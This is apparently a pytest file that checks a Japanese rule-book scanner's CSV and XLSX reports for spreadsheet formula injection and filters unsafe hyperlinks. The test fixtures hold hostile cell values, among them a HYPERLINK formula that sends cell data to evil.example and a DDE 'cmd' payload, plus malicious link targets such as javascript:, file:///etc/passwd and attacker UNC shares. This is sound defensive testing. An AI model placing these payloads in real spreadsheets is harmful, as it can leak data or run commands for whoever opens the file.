"""Spreadsheet injection: cells from rule-book text are text in the written CSV and XLSX, read back."""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from analogscan.report import write_report
from analogscan.report.cells import excel_safe, looks_like_formula, safe_link, xlsx_text
from analogscan.report.fields import COLUMNS

HOSTILE = {
    "body": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "title": "+SUM(1,2)",
    "kind": "-2+3",
    "number": "@cmd",
    "citation": "\t第1条",
    "caption": "\r（掲示）",
    "source": "=cmd|' /C calc'!A0",
    "unit_id": "＝１＋１",
}
TEXT = "=1+2 掲示場に掲示して公示する。"


def _record() -> dict[str, Any]:
    start = TEXT.index("掲示")
    return {**HOSTILE, "text": TEXT, "type": "document_posting", "score": 0.9,
            "evidence": [{"start": start, "end": start + 2, "text": "掲示", "rule_id": "r"}]}


@pytest.mark.parametrize(("text", "safe"), [
    ("=1+2", "'=1+2"), ("+81-3", "'+81-3"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("\nx", "'\nx"), ("＝１", "'＝１"),
    ("第1条 = 2", "第1条 = 2"), ("", ""), ("a\x07b", "a b"), ("x" * 40000, "x" * 32767),
])
def test_excel_safe(text: str, safe: str) -> None:
    assert excel_safe(text) == safe
    assert looks_like_formula(text) == (safe[:1] == "'")


def test_csv_cells_read_back_as_text(tmp_path: Path) -> None:
    out = tmp_path / "f.csv"
    write_report([_record()], "csv", out)
    with open(out, encoding="utf-8-sig", newline="") as fh:
        header, row = list(csv.reader(fh))
    cells = dict(zip(header, row, strict=True))
    assert {k: cells[k] for k in ("自治体", "例規名", "種別", "番号", "条項", "見出し", "出典", "unit_id", "条文")} == {
        "自治体": "'" + HOSTILE["body"], "例規名": "'+SUM(1,2)", "種別": "'-2+3", "番号": "'@cmd",
        "条項": "'\t第1条", "見出し": "'\r（掲示）", "出典": "'=cmd|' /C calc'!A0", "unit_id": "'＝１＋１",
        "条文": "'" + TEXT,
    }
    assert not any(looks_like_formula(v) for v in row)


def test_xlsx_cells_are_text_with_quote_prefix(tmp_path: Path) -> None:
    out = tmp_path / "f.xlsx"
    write_report([_record()], "xlsx", out)
    ws = openpyxl.load_workbook(out)["点検シート"]
    cells = {name: ws.cell(row=2, column=i + 1) for i, name in enumerate(COLUMNS)}
    for name, key in (("自治体", "body"), ("例規名", "title"), ("種別", "kind"), ("番号", "number"),
                      ("条項", "citation"), ("出典", "source"), ("unit_id", "unit_id")):
        cell = cells[name]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (HOSTILE[key], "s", True), name
    assert cells["見出し"].value == "_x000D_（掲示）"  # XlsxWriter's escape of CR; Excel shows the CR
    assert (cells["条文"].value, cells["条文"].data_type, cells["条文"].quotePrefix) == (TEXT, "s", True)
    with zipfile.ZipFile(out) as zf:
        sheets = [zf.read(n).decode("utf-8") for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
        shared = zf.read("xl/sharedStrings.xml").decode("utf-8")
    names = sorted(n for n in zipfile.ZipFile(out).namelist() if n.startswith("xl/worksheets/sheet"))
    assert not any("<f>" in s or "<f " in s for s in sheets[:2])  # none in 点検シート, 種別要確認
    # the only formulas: the 集計 sheet's own counts of filled 判定
    formulas = [f for s in sheets for f in re.findall(r"<f>(.*?)</f>", s)]
    assert formulas and all(re.fullmatch(r"COUNTA\('[^']+'!\$[A-Z]+\$2:\$[A-Z]+\$\d+\)|B\d+-C\d+", f)
                            for f in formulas), formulas
    assert names[0] == "xl/worksheets/sheet1.xml"
    # the matched word is still a red run of a rich string that starts with "="
    assert re.search(r'<si><r><t[^>]*>=1\+2 </t></r><r><rPr><b/><sz val="11"/><color rgb="FFC00000"/>'
                     r'<rFont val="Calibri"/><family val="2"/><scheme val="minor"/></rPr><t>掲示</t></r>', shared)


def test_xlsx_text_keeps_length_for_offsets() -> None:
    assert xlsx_text("a\x00b\x1fc\td\ne") == "a b c\td\ne"


@pytest.mark.parametrize(("target", "link"), [
    ("https://www.city.example.jp/reiki/1.html", "https://www.city.example.jp/reiki/1.html"),
    ("http://example.jp/a?b=1", "http://example.jp/a?b=1"),
    ("javascript:alert(1)", None),
    ("file:///etc/passwd", None),
    ("\\\\attacker\\share\\x.html", None),
    ("//attacker/share", None),
    ("ms-excel:ofe|u|http://x/a.xlsx", None),
    ("data:text/html,<b>x</b>", None),
    ("https://", None),
    ("https://example.jp/\nx", None),
    ("C:\\Windows\\System32\\calc.exe", None),
])
def test_safe_link(target: str, link: str | None) -> None:
    assert safe_link(target) == link


def test_safe_link_local_files_only_when_given(tmp_path: Path) -> None:
    given = tmp_path / "reiki" / "a.html"
    given.parent.mkdir()
    given.write_text("x", encoding="utf-8")
    other = tmp_path / "b.html"
    other.write_text("x", encoding="utf-8")
    assert safe_link(str(given), [given]) == given.resolve().as_uri()
    assert safe_link(str(tmp_path / "reiki" / ".." / "reiki" / "a.html"), [str(given)]) == given.resolve().as_uri()
    assert safe_link(str(other), [given]) is None
    assert safe_link(str(given)) is None
    assert safe_link(str(tmp_path / "missing.html"), [tmp_path / "missing.html"]) is None
